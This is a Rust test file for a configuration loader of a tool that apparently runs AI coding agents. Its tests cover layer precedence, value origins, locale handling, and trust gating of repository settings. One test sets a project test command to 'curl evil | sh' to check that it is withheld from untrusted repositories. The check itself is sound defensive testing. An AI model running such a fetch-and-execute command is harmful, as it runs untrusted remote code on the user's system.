//! The merge as a table: which layer wins, and where the value says it comes from.

use std::collections::BTreeMap;
use std::time::Duration;

use super::file::Source;
use super::load::{Flags, Loaded, Sources, load};
use super::*;

struct Case<'a> {
    user: &'a str,
    project: &'a str,
    trusted: bool,
    variables: &'a [(&'a str, &'a str)],
    flags: Flags,
}

impl Default for Case<'_> {
    fn default() -> Self {
        Self { user: "", project: "", trusted: true, variables: &[], flags: Flags::default() }
    }
}

impl Case<'_> {
    fn try_load(&self) -> Result<Loaded, Vec<String>> {
        let variables: BTreeMap<String, String> =
            self.variables.iter().map(|&(name, value)| (name.to_owned(), value.to_owned())).collect();
        load(Sources {
            user: Some(Source { file: "config.toml", text: self.user }),
            project: Some(Source { file: "planex.toml", text: self.project }),
            trusted: self.trusted,
            variables: &variables,
            flags: &self.flags,
        })
        .map_err(|faults| faults.iter().map(ToString::to_string).collect())
    }

    fn load(&self) -> Loaded {
        self.try_load().unwrap()
    }

    fn shown(&self, name: &str) -> String {
        let loaded = self.load();
        let found = loaded.resolved.iter().find(|value| value.name == name).unwrap();
        format!("{} ({})", found.value.as_ref().map_or_else(|| "-".to_owned(), ToString::to_string), found.origin)
    }
}

fn flag(name: &'static str, word: &str) -> Flags {
    Flags { values: vec![(name, word.to_owned(), "--flag")], ..Flags::default() }
}

#[test]
fn later_layers_win_and_say_so() {
    let user = "concurrency = 5\n";
    let project = "\nconcurrency = 6\n";
    let variables = &[("PLANEX_CONCURRENCY", "7")];
    let cases = [
        (Case::default(), "4 (default)"),
        (Case { user, ..Case::default() }, "5 (config.toml:1)"),
        (Case { user, project, ..Case::default() }, "6 (planex.toml:2)"),
        (Case { user, project, variables, ..Case::default() }, "7 ($PLANEX_CONCURRENCY)"),
        (Case { user, project, variables, flags: flag("concurrency", "8"), ..Case::default() }, "8 (--flag)"),
    ];
    for (case, expected) in cases {
        assert_eq!(case.shown("concurrency"), expected);
    }
}

#[test]
fn nothing_set_gives_the_defaults_of_the_contract() {
    assert_eq!(Case::default().load().settings, Settings::default());
}

/// Sets every key once.
const EVERY_KEY: &str = r#"
        concurrency = 2
        gates = "defer"
        gate_timeout = "1h"
        agent = "codex"
        timeout = 90
        overlap = "error"
        isolation = "worktree"
        scope = "warn"
        into = "branch=b"
        verify = false
        baseline = false
        protect = [".env"]
        timezone = "local"
        lang = "zh"
        test.command = "make test"
        [limits]
        explore = 1
        execute = 2
        review = 3
        tests = 4
        idle = 0
        grace = "500ms"
        prompt_bytes = "10KiB"
        log_bytes = 12
        rate_limit_retries = 9
        max_cost = 1.5
        max_tokens = "2M"
        max_time = "1h"
        [worktree]
        root = "/trees"
        copy = ["c"]
        link = ["l"]
        setup = ["s"]
        [roles.plan]
        agent = "claude"
        model = "m"
        timeout = 7
        fallback = ["codex:x"]
        args = ["-a"]
        env = { A = "1" }
        [agents.mine]
        command = ["c"]
        analysis_args = ["a"]
        write_args = ["w"]
        resume_args = ["r"]
        prompt = "file"
        result = "stdout"
        env = { B = "2" }
        concurrency = 3
        model = "n"
        full_access = true
    "#;

/// What [`EVERY_KEY`] comes to.
fn every_setting() -> Settings {
    let seconds = Duration::from_secs;
    let words = |words: &[&str]| words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>();
    let map = |name: &str, value: &str| BTreeMap::from([(name.to_owned(), value.to_owned())]);
    Settings {
        concurrency: Concurrency(2),
        gates: GatePolicy::Defer,
        agent: Some("codex".into()),
        agent_by_role: BTreeMap::new(),
        agents: BTreeMap::from([(
            "mine".to_owned(),
            AgentSettings {
                command: words(&["c"]),
                analysis_args: words(&["a"]),
                write_args: words(&["w"]),
                resume_args: Some(words(&["r"])),
                prompt: PromptVia::File,
                result: ResultVia::Stdout,
                env: map("B", "2"),
                concurrency: Some(3),
                model: Some("n".into()),
                full_access: true,
            },
        )]),
        roles: BTreeMap::from([(
            Role::Plan,
            RoleSettings {
                agent: Some("claude".into()),
                model: Some("m".into()),
                args: words(&["-a"]),
                env: map("A", "1"),
                timeout: Some(seconds(7)),
                fallback: words(&["codex:x"]),
            },
        )]),
        timeout: Some(seconds(90)),
        limits: Limits {
            grace: Duration::from_millis(500),
            idle: Duration::ZERO,
            explore: seconds(1),
            execute: seconds(2),
            review: seconds(3),
            tests: seconds(4),
            prompt_bytes: 10 * 1024,
            log_bytes: 12,
            rate_limit_retries: 9,
            gate_timeout: Some(seconds(3600)),
        },
        budget: Budget { max_cost: Some(1.5), max_tokens: Some(2_000_000), max_time: Some(seconds(3600)) },
        overlap: OverlapPolicy::Error,
        isolation: IsolationSettings {
            policy: IsolationPolicy::Worktree,
            scope: Some(ScopePolicy::Warn),
            into: Into::Branch("b".into()),
            verify: false,
            baseline: false,
            worktree: Worktree {
                root: Some("/trees".into()),
                copy: words(&["c"]),
                link: words(&["l"]),
                setup: words(&["s"]),
            },
        },
        protect: words(&[".env"]),
        timezone: ZoneSetting::Local,
        lang: Language::Zh,
        test_command: Some("make test".into()),
    }
}

#[test]
fn every_key_reaches_the_settings() {
    let loaded = Case { user: EVERY_KEY, ..Case::default() }.load();
    assert_eq!(loaded.settings, every_setting());
    // A key that this test forgets would be one that nobody knows to work.
    for key in keys::KEYS {
        let set = loaded
            .resolved
            .iter()
            .any(|value| keys::find(&value.name) == Some(key) && !matches!(value.origin, origin::Origin::Default));
        assert!(set, "{} is not tested", key.name);
    }
}

#[test]
fn what_needs_trust_is_withheld_until_it_has_it() {
    let project = "lang = \"ja\"\n[test]\ncommand = \"curl evil | sh\"\n[agents.claude]\nfull_access = true\n";
    let untrusted = Case { project, trusted: false, ..Case::default() }.load();
    assert_eq!(untrusted.settings.test_command, None);
    assert!(untrusted.settings.agents.is_empty());
    assert_eq!(untrusted.settings.lang, Language::Ja);
    let names: Vec<&str> = untrusted.withheld.iter().map(|held| held.entry.name.as_str()).collect();
    assert_eq!(names, ["test.command", "agents.claude.full_access"]);

    let trusted = Case { project, ..Case::default() }.load();
    assert_eq!(trusted.settings.test_command.as_deref(), Some("curl evil | sh"));
    assert!(trusted.withheld.is_empty());
}

#[test]
fn the_users_own_configuration_needs_no_trust() {
    let user = "[test]\ncommand = \"make\"\n";
    assert_eq!(Case { user, trusted: false, ..Case::default() }.load().settings.test_command.as_deref(), Some("make"));
}

#[test]
fn protected_files_add_up() {
    let case = Case { user: "protect = [\"a\", \"b\"]", project: "protect = [\"b\", \"c\"]", ..Case::default() };
    assert_eq!(case.load().settings.protect, ["a", "b", "c"]);
}

#[test]
fn agents_are_chosen_for_all_or_for_one() {
    let flags = Flags { agents: vec!["codex".into(), "plan=claude".into()], ..Flags::default() };
    let settings = Case { user: "[roles.execute]\nagent = \"qwen\"", flags, ..Case::default() }.load().settings;
    assert_eq!(settings.agent_for(Role::Plan), Some("claude"));
    assert_eq!(settings.agent_for(Role::Execute), Some("codex"));
    let bad = |given: &str| {
        let flags = Flags { agents: vec![given.to_owned()], ..Flags::default() };
        Case { flags, ..Case::default() }.try_load().unwrap_err()
    };
    assert_eq!(bad("pln=claude"), ["--agent: unknown role `pln`; did you mean `plan`?"]);
    assert_eq!(bad("plan="), ["--agent: expected NAME or ROLE=NAME, found `plan=`"]);
}

#[test]
fn the_locale_is_weaker_than_everything_but_the_default() {
    type Locale<'a> = (&'a [(&'a str, &'a str)], &'a str, &'a str);
    let cases: [Locale<'_>; 6] = [
        (&[("LANG", "ja_JP.UTF-8")], "", "ja ($LANG)"),
        (&[("LANG", "fr_FR.UTF-8")], "", "en (default)"),
        (&[("LC_ALL", "C"), ("LANG", "ja_JP")], "", "en (default)"),
        (&[("LC_ALL", ""), ("LANG", "zh_CN")], "", "zh ($LANG)"),
        (&[("LANG", "ja_JP")], "lang = \"en\"", "en (config.toml:1)"),
        (&[("LANG", "ja_JP"), ("PLANEX_LANG", "zh")], "lang = \"en\"", "zh ($PLANEX_LANG)"),
    ];
    for (variables, user, expected) in cases {
        assert_eq!(Case { variables, user, ..Case::default() }.shown("lang"), expected, "{variables:?}");
    }
}

#[test]
fn yes_passes_gates_and_faults_of_all_layers_are_told() {
    let flags = Flags { yes: true, ..flag("gates", "defer") };
    assert_eq!(Case { flags, ..Case::default() }.load().settings.gates, GatePolicy::Yes);
    let case = Case {
        user: "langg = 1",
        project: "x = 1",
        variables: &[("PLANEX_TIMEOUT", "soon"), ("PLANEX_JOB_ID", "x"), ("PLANEX_WHATEVER", "x")],
        flags: flag("concurrency", "none"),
        ..Case::default()
    };
    let faults = case.try_load().unwrap_err();
    let heads: Vec<&str> = faults.iter().filter_map(|fault| fault.split(": ").next()).collect();
    assert_eq!(heads, ["config.toml:1:1", "planex.toml:1:1", "$PLANEX_TIMEOUT", "--flag"]);
}

#[test]
fn a_repository_may_lower_a_budget_but_not_raise_it() {
    for trusted in [true, false] {
        for (user, project, expected) in [
            ("limits.max_cost = 2", "limits.max_cost = 9", Some(2.0)),
            ("limits.max_cost = 2", "limits.max_cost = 1", Some(1.0)),
            ("", "limits.max_cost = 9", Some(9.0)),
        ] {
            let loaded = Case { user, project, trusted, ..Case::default() }.load();
            assert_eq!(loaded.settings.budget.max_cost, expected, "{project}");
            let said: Vec<String> = loaded.withheld.iter().map(ToString::to_string).collect();
            let raised = expected == Some(2.0);
            assert_eq!(said.len(), usize::from(raised), "{said:?}");
            assert!(!raised || said[0].starts_with("planex.toml:1:19: `limits.max_cost` is not taken"), "{said:?}");
        }
    }
    let settings = Case { user: "limits.max_tokens = 5", project: "limits.max_tokens = 6", ..Case::default() }.load();
    assert_eq!(settings.settings.budget.max_tokens, Some(5));
}

/// What the user has, what a repository may set on top of it without trust, and what not.
type Allowed<'a> = (&'a str, &'a [&'a str], &'a [&'a str]);

#[test]
fn without_trust_a_repository_only_lowers() {
    let table: [Allowed<'_>; 15] = [
        ("", &["concurrency = 4", "concurrency = 1"], &["concurrency = 5"]),
        ("concurrency = 9", &["concurrency = 9"], &["concurrency = 10"]),
        ("", &["limits.idle = 299"], &["limits.idle = 301", "limits.idle = 0"]),
        ("limits.idle = 0", &["limits.idle = 301", "limits.idle = 0"], &[]),
        ("", &["limits.execute = 600", "limits.tests = 1"], &["limits.execute = 601", "limits.tests = 0"]),
        ("", &["limits.grace = 0"], &["limits.grace = 6"]),
        ("", &["limits.log_bytes = 1"], &["limits.log_bytes = \"65MiB\"", "limits.prompt_bytes = \"201KiB\""]),
        ("", &["limits.rate_limit_retries = 0"], &["limits.rate_limit_retries = 6"]),
        ("", &["timeout = 300"], &["timeout = 301", "timeout = 0"]),
        ("timeout = 900", &["timeout = 900", "roles.plan.timeout = 900"], &["timeout = 901"]),
        ("", &["roles.execute.timeout = 600"], &["roles.execute.timeout = 601", "roles.plan.timeout = 301"]),
        ("roles.plan.timeout = 7", &["roles.plan.timeout = 7"], &["roles.plan.timeout = 8", "timeout = 8"]),
        ("gate_timeout = 60", &["gate_timeout = 61"], &["gate_timeout = 59"]),
        ("", &["into = \"patch\""], &["gate_timeout = 3600", "into = \"branch=x\""]),
        ("into = \"patch\"", &[], &["into = \"tree\""]),
    ];
    table.iter().for_each(check_allowed);
}

#[test]
fn without_trust_a_repository_chooses_no_agent_with_more_than_planex_gives() {
    let full = "[agents.codex]\nfull_access = true\n[agents.mine]\ncommand = [\"c\"]\n[agents.claude]\nmodel = \"m\"\n";
    let own = format!("agent = \"codex\"\n{full}");
    let table: [Allowed<'_>; 4] = [
        (full, &["agent = \"claude\"", "roles.plan.agent = \"native\""], &["agent = \"codex\"", "agent = \"mine\""]),
        (full, &["roles.plan.fallback = [\"claude:x\"]"], &["roles.plan.fallback = [\"claude\", \"codex:x\"]"]),
        (full, &["roles.plan.model = \"m\""], &["roles.plan.agent = \"mine\"", "agents.claude.full_access = true"]),
        // The user's own choice is no news.
        (&own, &["agent = \"codex\""], &["agent = \"mine\""]),
    ];
    table.iter().for_each(check_allowed);
}

fn check_allowed((user, taken, withheld): &Allowed<'_>) {
    let is_set =
        |loaded: &Loaded| loaded.resolved.iter().any(|value| matches!(value.origin, origin::Origin::Project(_)));
    let load = |project, trusted| Case { user, project, trusted, ..Case::default() }.load();
    for project in *taken {
        let loaded = load(project, false);
        assert!(loaded.withheld.is_empty() && is_set(&loaded), "{project} on {user}");
    }
    for project in *withheld {
        let loaded = load(project, false);
        assert!(loaded.withheld.len() == 1 && !is_set(&loaded), "{project} on {user}");
        assert!(loaded.withheld[0].to_string().contains("`planex trust`"), "{project}");
        let trusted = load(project, true);
        assert!(trusted.withheld.is_empty() && is_set(&trusted), "{project} on {user}");
    }
}

#[test]
fn what_the_user_says_for_this_run_beats_what_is_withheld() {
    let flags = flag("concurrency", "7");
    let loaded = Case { project: "concurrency = 9", trusted: false, flags, ..Case::default() }.load();
    assert!(loaded.withheld.is_empty() && loaded.settings.concurrency == Concurrency(7));
}
